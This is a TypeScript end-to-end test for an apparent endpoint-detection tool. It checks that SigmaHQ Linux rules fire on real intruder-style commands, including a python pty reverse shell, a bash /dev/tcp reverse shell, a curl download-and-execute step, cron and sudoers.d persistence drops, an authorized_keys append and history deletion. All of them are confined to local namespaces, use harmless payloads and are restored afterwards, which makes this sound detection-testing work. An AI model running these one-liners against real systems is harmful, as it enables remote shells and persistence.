import t from 'tap'
import { spawn } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { rootPath } from '../../shared/paths.js'
import { requireReal } from '../helpers/env.js'
import { run, type ScanResult } from '../helpers/scan.js'
import { findings, startStack, type FindingSummary, type Stack } from './helpers/stack.js'

// SigmaHQ's Linux rules against real commands (issue 13, section 6): a real
// `picket backend` and `picket agent` (every class), then the commands an
// intruder types, each of which must raise the named rule's finding
// (finding_info.analytic.uid is the rule's id). Each command was written from
// the rule's YAML in backend/rules/sigmahq/rules/linux/. Every file the test
// touches outside its own temporary folder is put back in t.teardown.
// Run under flock /tmp/picket-kernel.lock: the agent loads BPF programs.

type Tap = typeof t
declare namespace Tap { type Test = Parameters<Parameters<typeof t.test>[1]>[0] }

const COMMANDS = ['sh', 'bash', 'base64', 'curl', 'wget', 'crontab', 'nmap', 'python3', 'ip', 'git', 'tar', 'rm']
// the rules' Image values name these binaries; a shim on PATH (pyenv) would only add a hop
const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3'

// Findings the benign burst may raise: SigmaHQ's discovery and clean-up rules
// fire on ordinary commands by design, and each says so in its
// `falsepositives` (checked below against the rule file).
const KNOWN_BENIGN_RULES: Array<{ uid: string, by: string, documented: string }> = [
  { uid: 'b45e3d6f-42c6-47d8-a478-df6bd6cf534c', by: 'id (Local System Accounts Discovery)', documented: 'Legitimate administration activities' },
  { uid: '42df45e7-e6e9-43b5-8f26-bec5b39cc239', by: 'uname (System Information Discovery)', documented: 'Legitimate administration activities' },
  { uid: '30aed7b6-d2c1-4eaf-9382-b6bc43e50c57', by: 'rm (File Deletion)', documented: 'Legitimate administration activities' },
  { uid: 'd3feb4ee-ff1d-4d3d-bd10-5b28a238cc72', by: 'find (File and Directory Discovery)', documented: 'Legitimate activities' },
]

/** The rule file (under backend/rules/) whose id is `uid`. */
function ruleText (uid: string): string | undefined {
  const root = rootPath('backend', 'rules')
  for (const f of readdirSync(root, { recursive: true, encoding: 'utf8' })) {
    if (!f.endsWith('.yml')) continue
    const text = readFileSync(join(root, f), 'utf8')
    if (new RegExp(`^id: ${uid}$`, 'm').test(text)) return text
  }
  return undefined
}

const FINDING_WAIT_MS = 20_000

function ruleOf (f: FindingSummary): string {
  return String(f.finding.finding_info?.analytic?.uid ?? f.finding.finding_info?.uid ?? '')
}

async function sh (t: Tap.Test, cmd: string, args: string[], timeoutMs = 20_000): Promise<ScanResult> {
  const r = await run(cmd, args, timeoutMs)
  if (r.code !== 0) t.comment(`${cmd} ${args.join(' ')} exited ${String(r.code)}: ${r.stderr.slice(-500)}`)
  return r
}

/** Wait until a finding of every rule in `uids` (id prefixes) is stored; returns the findings by prefix. */
async function waitForRules (stack: Stack, uids: string[]): Promise<Map<string, FindingSummary>> {
  const end = Date.now() + FINDING_WAIT_MS
  const got = new Map<string, FindingSummary>()
  for (;;) {
    for (const f of await findings(stack.db)) {
      const uid = ruleOf(f)
      for (const want of uids) if (!got.has(want) && uid.startsWith(want)) got.set(want, f)
    }
    if (got.size === uids.length || Date.now() > end) return got
    await new Promise(resolve => setTimeout(resolve, 1000))
  }
}

/** Write `path` for the test; t.teardown puts back what was there (or removes it, and the folders it made). */
function touchAndRestore (t: Tap.Test, path: string): void {
  const dir = path.slice(0, path.lastIndexOf('/'))
  const madeDir = !existsSync(dir)
  if (madeDir) mkdirSync(dir, { recursive: true, mode: 0o700 })
  const before = existsSync(path) ? readFileSync(path) : undefined
  t.teardown(() => {
    if (before !== undefined) writeFileSync(path, before)
    else rmSync(path, { force: true })
    if (madeDir) rmdirSync(dir)
  })
}

/** What the test touches outside its own folder, to compare before and after. */
async function systemState (): Promise<Record<string, string>> {
  const state: Record<string, string> = {}
  for (const p of ['/etc/cron.d/picket-e2e-test', '/etc/sudoers.d', '/etc/sudoers.d/picket-e2e-test', '/root/.ssh', '/root/.ssh/authorized_keys']) {
    state[p] = !existsSync(p) ? 'absent' : statSync(p).isDirectory() ? 'folder' : readFileSync(p, 'utf8')
  }
  const cron = await run('crontab', ['-l'])
  state.crontab = cron.code === 0 ? cron.stdout : 'none'
  state.netns = (await run('ip', ['netns', 'list'])).stdout.split('\n').filter(l => l.startsWith('picket-e2e-')).join(',')
  return state
}

let before: Record<string, string> | undefined

t.test('real commands raise their SigmaHQ findings through a real agent and backend', async t => {
  if (!requireReal(t, { bpf: true, commands: COMMANDS })) return
  before = await systemState()
  const stack = await startStack({ hostId: 'sigma-e2e', agentArgs: ['--class', 'all'] })
  t.teardown(async () => { await stack.close() })
  const work = mkdtempSync('/tmp/picket-sigma-')
  t.teardown(() => { rmSync(work, { recursive: true, force: true }) })

  // a payload for curl and wget to fetch: a real executable, so that running it from /tmp is an exec of /tmp/...
  const payload = readFileSync('/usr/bin/true')
  const http = createServer((_req, res) => { res.setHeader('content-type', 'application/octet-stream'); res.end(payload) })
  await new Promise<void>(resolve => http.listen(0, '127.0.0.1', resolve))
  t.teardown(() => { http.close() })
  const url = `http://127.0.0.1:${(http.address() as { port: number }).port}/payload`

  await t.test('benign: a burst of ordinary shell use raises no finding a rule does not document', async t => {
    const repo = join(work, 'repo')
    mkdirSync(repo)
    writeFileSync(join(repo, 'notes.txt'), 'hello\nworld\n')
    // run in the repository, so that no command line names /tmp/ (30bcce26 reads any `sh -c` naming /tmp/ as suspicious)
    const script = [
      'ls -la', 'cat notes.txt', 'grep -n world notes.txt', 'wc -l notes.txt', 'sort notes.txt | uniq', 'head -1 notes.txt',
      'git init -q . && git -c user.email=a@b -c user.name=a add notes.txt && git -c user.email=a@b -c user.name=a commit -qm first && git status --short',
      'tar czf ../repo.tgz . && mkdir -p ../untar && tar xzf ../repo.tgz -C ../untar && ls ../untar',
      'find . -name "*.txt" | xargs wc -c', 'cp notes.txt copy.txt && mv copy.txt moved.txt && chmod 600 moved.txt && rm moved.txt',
      'date; uname -a; id; ps -e | head -3; env | sort | head -3; df -h . | tail -1',
      'sed -e s/hello/bye/ notes.txt | awk "{print toupper(\\$0)}"',
    ].join('\n')
    for (let i = 0; i < 3; i++) {
      const code = await new Promise(resolve => spawn('sh', ['-c', script], { cwd: repo, stdio: 'ignore' }).on('exit', resolve))
      t.equal(code, 0, `burst ${i + 1} ran`)
    }
    await new Promise(resolve => setTimeout(resolve, 4000))
    for (const k of KNOWN_BENIGN_RULES) t.match(ruleText(k.uid) ?? '', new RegExp(`^falsepositives:\\n(\\s+- .*\\n)*\\s+- ${k.documented}$`, 'm'), `${k.by}: ${k.uid} documents '${k.documented}' as a false positive`)
    // Where the checkout lives is not the burst: under /tmp (CI's fresh
    // clone may be there) every node it starts is an exec from /tmp
    // (312b42b1), and the test's node starting the burst's sh is a shell run
    // by a process in /tmp (2fade0b6). Both rightly report it; neither is
    // about what the burst did.
    const ours = (f: FindingSummary): boolean => {
      const group = (f.finding.unmapped?.picket?.group ?? {}) as Record<string, unknown>
      return ['process.file.path', 'process.parent_process.file.path', 'actor.process.file.path', 'actor.process.parent_process.file.path']
        .some(k => String(group[k] ?? '').startsWith(rootPath() + '/'))
    }
    const raised = (await findings(stack.db)).filter(f => !ours(f)).map(f => `${ruleOf(f)} ${String(f.finding.finding_info?.title)}`)
    t.comment(`benign findings: ${raised.join('; ') || 'none'}`)
    const unexplained = raised.filter(r => !KNOWN_BENIGN_RULES.some(k => r.startsWith(k.uid)))
    t.same(unexplained, [], 'no finding but the documented false positives')
  })

  // rule id prefix → what ran, and a field of the matching record the finding must show (its group)
  const expected: Array<{ rule: string, what: string, shows: [string, string] }> = []
  const expect = (rule: string, what: string, shows: [string, string]): void => { expected.push({ rule, what, shows }) }

  // ba592c6d Linux Base64 Encoded Pipe to Shell: CommandLine has 'base64 ' and ends '| sh'
  await sh(t, 'sh', ['-c', `echo ${Buffer.from('echo picket-e2e\n').toString('base64')} | base64 -d | sh`])
  expect('ba592c6d', "sh -c 'echo ... | base64 -d | sh'", ['process.cmd_line', '| base64 -d | sh'])

  // a2d9e2f3 Suspicious Download and Execute Pattern via Curl/Wget: '/curl', '/tmp/' and 'sh -c' in one command line;
  // 312b42b1 Potentially Suspicious Execution From Tmp Folder: the download run from /tmp
  const dropped = join(work, 'stage')
  await sh(t, 'sh', ['-c', `/usr/bin/curl -so ${dropped} ${url} && chmod +x ${dropped} && ${dropped}`])
  expect('a2d9e2f3', 'sh -c with curl to /tmp, then run there', ['process.cmd_line', `/usr/bin/curl -so ${dropped}`])
  expect('312b42b1', 'the download executed from /tmp', ['process.file.path', dropped])
  // 35a05c60 Wget Creating Files in Tmp Directory (file_event: Image ends /wget, TargetFilename in /tmp/)
  await sh(t, 'wget', ['-q', '-O', join(work, 'stage2'), url])
  expect('35a05c60', 'wget writing into /tmp', ['file.path', join(work, 'stage2')])

  // 6c4e2f43 New Cron File Created: a file written under /etc/cron.d/ (a comment: cron has nothing to run)
  const cronFile = '/etc/cron.d/picket-e2e-test'
  touchAndRestore(t, cronFile)
  writeFileSync(join(work, 'cronjob'), '# picket e2e test: nothing to run\n')
  await sh(t, 'cp', [join(work, 'cronjob'), cronFile])
  expect('6c4e2f43', 'a cron file dropped into /etc/cron.d', ['file.path', cronFile])

  // 6b14bac8 Scheduled Cron Task/Job: crontab (Image ends 'crontab') loading a file from /tmp/; root's crontab restored after
  const hadCrontab = await run('crontab', ['-l'])
  t.teardown(async () => {
    if (hadCrontab.code === 0) {
      const back = join(mkdtempSync('/var/tmp/picket-crontab-'), 'root')
      writeFileSync(back, hadCrontab.stdout)
      await run('crontab', [back])
      rmSync(back.slice(0, back.lastIndexOf('/')), { recursive: true, force: true })
    } else await run('crontab', ['-r'])
  })
  await sh(t, 'crontab', [join(work, 'cronjob')])
  expect('6b14bac8', 'crontab /tmp/...', ['process.cmd_line', `crontab ${join(work, 'cronjob')}`])

  // ddb26b76 Persistence Via Sudoers.d Files: a file written under /etc/sudoers.d/ (a comment: it grants nothing)
  const sudoersFile = '/etc/sudoers.d/picket-e2e-test'
  touchAndRestore(t, sudoersFile)
  writeFileSync(join(work, 'sudoers'), '# picket e2e test: grants nothing\n')
  await sh(t, 'cp', [join(work, 'sudoers'), sudoersFile])
  expect('ddb26b76', 'a file in /etc/sudoers.d', ['file.path', sudoersFile])

  // 1182f3b3 History File Deletion: rm naming a /.bash_history (a fake one in the test's folder)
  writeFileSync(join(work, '.bash_history'), 'ls\n')
  await sh(t, 'rm', ['-f', join(work, '.bash_history')])
  expect('1182f3b3', 'rm -f .../.bash_history', ['process.cmd_line', '/.bash_history'])

  // 3e102cd9 Linux Network Service Scanning Tools Execution: nmap, on loopback only
  await sh(t, 'nmap', ['-S', '127.0.0.66', '-e', 'lo', '-Pn', '-p', '1-10', '127.0.0.1'], 60_000)
  expect('3e102cd9', 'nmap -S 127.0.0.66 -e lo -Pn -p 1-10 127.0.0.1', ['process.cmd_line', 'nmap -S 127.0.0.66 -e lo -Pn -p 1-10 127.0.0.1'])

  // Picket's own T1098.004 rule: an authorized_keys file rewritten (root's, put back after)
  const akeys = '/root/.ssh/authorized_keys'
  touchAndRestore(t, akeys)
  writeFileSync(join(work, 'key.pub'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPicketE2eTestKeyNotARealKeyAtAll0000000000 picket-e2e\n')
  await sh(t, 'sh', ['-c', `cat ${join(work, 'key.pub')} >> ${akeys}`])
  expect('5f0c7a39', 'authorized_keys modified (picket_t1098_004_authorized_keys)', ['file.path', akeys])

  // 32e62bc7 (python pty reverse shell) and 83dcd9f6 (bash connecting out): to a listener in a
  // network namespace on a veth pair, since 83dcd9f6 leaves loopback out
  const tag = String(process.pid % 100000)
  const ns = `picket-e2e-${tag}`
  const hostIf = `pkh${tag}`
  const octet = 100 + (process.pid % 150)
  const local = `10.213.${octet}.1`
  const peer = `10.213.${octet}.2`
  t.teardown(async () => { await run('ip', ['netns', 'del', ns]); await run('ip', ['link', 'del', hostIf]) })
  const setup = [
    ['netns', 'add', ns],
    ['link', 'add', hostIf, 'type', 'veth', 'peer', 'name', `pkn${tag}`],
    ['link', 'set', `pkn${tag}`, 'netns', ns],
    ['addr', 'add', `${local}/30`, 'dev', hostIf],
    ['link', 'set', hostIf, 'up'],
    ['-n', ns, 'addr', 'add', `${peer}/30`, 'dev', `pkn${tag}`],
    ['-n', ns, 'link', 'set', `pkn${tag}`, 'up'],
    ['-n', ns, 'link', 'set', 'lo', 'up'],
  ]
  let netnsOk = true
  for (const args of setup) {
    const r = await run('ip', args)
    if (r.code !== 0) { netnsOk = false; t.fail(`ip ${args.join(' ')}: ${r.stderr}`); break }
  }
  if (netnsOk) {
    // the listener answers each shell with `exit`, so the shells end by themselves
    const listener = `
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('${peer}', 4444))
s.listen(4)
s.settimeout(30)
for _ in range(2):
    c, _a = s.accept()
    c.sendall(b'exit\\n')
    c.settimeout(5)
    try:
        while c.recv(4096):
            pass
    except OSError:
        pass
    c.close()
`
    const listening = run('ip', ['netns', 'exec', ns, PYTHON, '-c', listener], 40_000)
    await new Promise(resolve => setTimeout(resolve, 500))
    const pty = `import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${peer}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")`
    await sh(t, PYTHON, ['-c', pty], 15_000)
    expect('32e62bc7', 'python3 -c "import socket,os,pty;...pty.spawn(...)"', ['process.cmd_line', 'pty.spawn("/bin/sh")'])
    await sh(t, 'bash', ['-c', `bash -i >& /dev/tcp/${peer}/4444 0>&1`], 15_000)
    expect('83dcd9f6', `bash -i >& /dev/tcp/${peer}/4444 0>&1`, ['actor.process.file.path', '/bin/bash'])
    const l = await listening
    t.equal(l.code, 0, `the listener in ${ns} took both shells${l.code === 0 ? '' : ': ' + l.stderr.slice(-300)}`)
  }

  const got = await waitForRules(stack, expected.map(e => e.rule))
  for (const e of expected) {
    const f = got.get(e.rule)
    t.ok(f !== undefined, `${e.what} raises ${e.rule}${f !== undefined ? ` '${String(f.finding.finding_info?.title)}'` : ''}`)
    if (f === undefined) continue
    t.equal(f.hostId, stack.hostId, `${e.rule}: on this host`)
    const group = (f.finding.unmapped?.picket?.group ?? {}) as Record<string, unknown>
    t.match(String(group[e.shows[0]]), e.shows[1], `${e.rule}: the finding shows ${e.shows[0]} (${String(group[e.shows[0]]).slice(0, 120)})`)
  }
  const all = await findings(stack.db)
  t.comment(`findings: ${all.map(f => `${ruleOf(f).slice(0, 8)} ${String(f.finding.finding_info?.title)}`).join('; ')}`)
  // 35a05c60 → 312b42b1 is no temporal correlation in the corpus (backend/rules/sigmahq has none); each stands alone above
})

t.test('every file, crontab and namespace the commands touched is as it was', async t => {
  if (before === undefined) { t.pass('the commands did not run'); return }
  t.same(await systemState(), before, 'cron.d, sudoers.d, /root/.ssh, root\'s crontab and the test\'s namespaces as before')
})
